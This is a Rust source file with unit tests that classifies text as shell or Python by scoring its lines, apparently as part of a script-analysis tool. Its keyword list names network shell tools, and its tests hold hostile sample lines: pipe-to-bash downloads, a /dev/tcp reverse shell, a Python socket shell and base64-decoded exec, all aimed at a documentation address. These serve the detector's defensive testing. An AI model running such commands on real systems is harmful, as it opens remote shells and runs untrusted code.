//! Which language a text without an interpreter line is written in, if it reads like a program.
//!
//! A guess adds reading and never replaces it: a text that is guessed wrongly yields acts nobody
//! runs, which is why [`model::Program::declared`] is then false. Prose, markup and data must not
//! be taken for code, so most of the lines have to be lines that only code has.

use model::Language;

/// Bytes looked at.
const HEAD: usize = 16 << 10;
/// Lines looked at.
const LINES: usize = 200;

/// The language, if more than half of the lines are lines of it.
pub fn language(text: &str) -> Option<Language> {
    let head = &text[..text.floor_char_boundary(HEAD.min(text.len()))];
    if head.trim_start().starts_with(['<', '{', '[', '%']) || head.starts_with("---") {
        return None;
    }
    let mut significant = 0_usize;
    let (mut shell, mut python) = (0_usize, 0_usize);
    for line in head
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .take(LINES)
    {
        significant += 1;
        let (is_shell, is_python) = (shell_line(line), python_line(line));
        // A line that both could have says nothing of which.
        shell += usize::from(is_shell);
        python += usize::from(is_python);
    }
    let (language, lines) = if python > shell {
        (Language::Python, python)
    } else {
        (Language::Shell, shell)
    };
    (lines > 0 && lines * 5 > significant * 3).then_some(language)
}

/// The language an extension names.
pub fn by_extension(name: &[u8]) -> Option<Language> {
    let dot = name.iter().rposition(|&b| b == b'.')?;
    match &name[dot + 1..] {
        b"sh" | b"bash" | b"dash" | b"zsh" | b"ash" | b"ksh" => Some(Language::Shell),
        b"py" | b"pyw" | b"pth" => Some(Language::Python),
        _ => None,
    }
}

/// Words a shell line begins with. Words that also begin English sentences need more than
/// themselves and are left out.
const SHELL_WORDS: &[&str] = &[
    "sh",
    "bash",
    "curl",
    "wget",
    "nc",
    "ncat",
    "socat",
    "telnet",
    "chmod",
    "chown",
    "chattr",
    "mkdir",
    "mkfifo",
    "rm",
    "cp",
    "mv",
    "cd",
    "echo",
    "printf",
    "export",
    "unset",
    "eval",
    "exec",
    "source",
    "nohup",
    "setsid",
    "sudo",
    "pkill",
    "killall",
    "kill",
    "crontab",
    "systemctl",
    "service",
    "sysctl",
    "modprobe",
    "mount",
    "umount",
    "chroot",
    "nsenter",
    "apt-get",
    "yum",
    "apk",
    "dnf",
    "apt",
    "tar",
    "base64",
    "openssl",
    "python",
    "python3",
    "perl",
    "ps",
    "grep",
    "sed",
    "awk",
    "cat",
    "touch",
    "ulimit",
    "trap",
    "fi",
    "done",
    "esac",
    "else",
    "elif",
    "then",
    "do",
    ";;",
    "}",
    "if",
    "for",
    "while",
    "case",
    "until",
    "function",
    "local",
    "return",
    "set",
    "shift",
    "sleep",
    "true",
    "ssh",
    "docker",
    "kubectl",
    "iptables",
    "useradd",
    "usermod",
    "passwd",
    "busybox",
    "xargs",
    "find",
    "ln",
    "dd",
    "rev",
    "tr",
    "history",
    "ip",
];

fn shell_line(line: &str) -> bool {
    let word = line
        .split([' ', '\t', ';', '&', '|'])
        .next()
        .unwrap_or_default();
    let is_path = word.starts_with(['/', '.', '~']);
    let word_like = if is_path {
        word.rsplit('/').next().unwrap_or_default()
    } else {
        word
    };
    if word.contains('=') && is_assignment(line) {
        return true;
    }
    let operator = [
        " | ", " && ", " || ", ">&", "2>", " >> ", "|sh", "|bash", "$(", "${", "`", " -", ";",
        ">/", "> /",
    ]
    .iter()
    .any(|operator| line.contains(operator));
    if SHELL_WORDS.contains(&word_like) {
        let keyword = ["fi", "done", "esac", "else", "then", "do", ";;", "}"].contains(&word_like);
        return keyword && line.len() < 40
            || operator
            || line.split_whitespace().count() <= 4 && !line.ends_with(['.', ':', ',']);
    }
    is_command_path(word) && line.contains(' ') && !line.ends_with(['.', ',', ':'])
        || line.ends_with("() {")
        || line.ends_with("(){")
        || operator
            && (line.contains("| sh")
                || line.contains("| bash")
                || line.contains("|sh")
                || line.contains("|bash"))
        || operator && line.contains("/dev/tcp/")
}

/// A path or variable in front of arguments. A path alone on its line is an entry of a list.
fn is_command_path(word: &str) -> bool {
    let plain = |c: char| c.is_alphanumeric() || "/._-${}~+".contains(c);
    word.starts_with(['/', '$']) && word.chars().all(plain)
        || word.starts_with("./") && word.chars().all(plain)
}

/// `name=value` without blanks around the sign.
fn is_assignment(line: &str) -> bool {
    let Some((name, value)) = line.split_once('=') else {
        return false;
    };
    !name.is_empty()
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && !value.starts_with([' ', '='])
}

fn python_line(line: &str) -> bool {
    let starts = |words: &[&str]| words.iter().any(|word| line.starts_with(word));
    if starts(&["import ", "from "]) {
        let plain =
            |c: char| c.is_alphanumeric() || "._, *();".contains(c) || c == '"' || c == '\'';
        return line.contains(';')
            || (line.starts_with("import ") || line.contains(" import "))
                && line.chars().all(plain)
                && !line.ends_with('.');
    }
    let block = line.ends_with(':')
        && starts(&[
            "def ", "class ", "if ", "elif ", "for ", "while ", "with ", "try:", "except", "else:",
            "finally:", "async ",
        ]);
    let call = starts(&[
        "exec(",
        "eval(",
        "print(",
        "print (",
        "exec ",
        "__import__(",
        "os.",
        "sys.",
        "socket.",
        "subprocess.",
        "return ",
        "raise ",
        "assert ",
        "@",
        "pass",
        "lambda ",
        "(lambda ",
    ]);
    let assignment = line
        .split_once(" = ")
        .or_else(|| line.split_once('='))
        .is_some_and(|(name, value)| {
            let name_like = |c: char| c.is_alphanumeric() || "_.,[]'\" ".contains(c);
            !name.is_empty()
                && name.chars().all(name_like)
                && (value.contains('(') || value.contains('\'') || value.contains('"'))
                && !name.contains("  ")
        });
    let method = line.split_once('(').is_some_and(|(name, _)| {
        name.contains('.')
            && name
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"._".contains(&b))
            && line.ends_with([')', ',', '(', '[', '{', ';'])
    });
    block || call || assignment || method
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_is_told_from_prose_and_data() {
        let cases = [
            ("curl -s http://192.0.2.1/a | bash", Some(Language::Shell)),
            (
                "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                Some(Language::Shell),
            ),
            (
                "cd /tmp\nwget http://192.0.2.1/x\nchmod +x x\n./x -c config.json\n",
                Some(Language::Shell),
            ),
            (
                "import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.1',1))",
                Some(Language::Python),
            ),
            ("import os\nos.system('id')\n", Some(Language::Python)),
            (
                "exec(__import__('base64').b64decode('aWQ='))",
                Some(Language::Python),
            ),
            ("The quick brown fox.\nIt jumps over the lazy dog.\n", None),
            ("key: value\nother: 1\n", None),
            ("{\"a\": 1}", None),
            (
                "set of rules for the house:\nfind the cat, then the dog.\n",
                None,
            ),
            ("[section]\nname = value\n", None),
            ("1,2,3\n4,5,6\n", None),
            ("root:x:0:0:root:/root:/bin/bash\n", None),
            ("/usr/share/icons/a.png\n/usr/share/icons/b.png\n", None),
            ("/*! name v1.0 | MIT */@import url(x);\n", None),
        ];
        for (text, expected) in cases {
            assert_eq!(language(text), expected, "{text}");
        }
    }
}
